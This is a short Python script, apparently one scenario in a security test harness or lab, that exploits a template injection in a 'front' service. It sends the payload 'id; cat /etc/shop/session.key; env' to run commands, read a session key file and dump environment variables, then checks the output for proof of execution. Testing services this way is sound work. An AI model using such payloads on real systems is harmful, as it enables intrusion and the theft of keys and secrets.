#!/usr/bin/python3 -B
"""Template injection: a partner's greeting is a template literal, and runs a command (CWE-95)."""

from attack import Attack

KEY = "/etc/shop/session.key"


def run(attack: Attack) -> bool:
    said = attack.front(f"id; cat {KEY}; env")
    return attack.prove("front-5f1b" in said and "uid=33" in said, said=said)


Attack("T1190, T1059.007", ["edge", "front"], [KEY]).main(run)
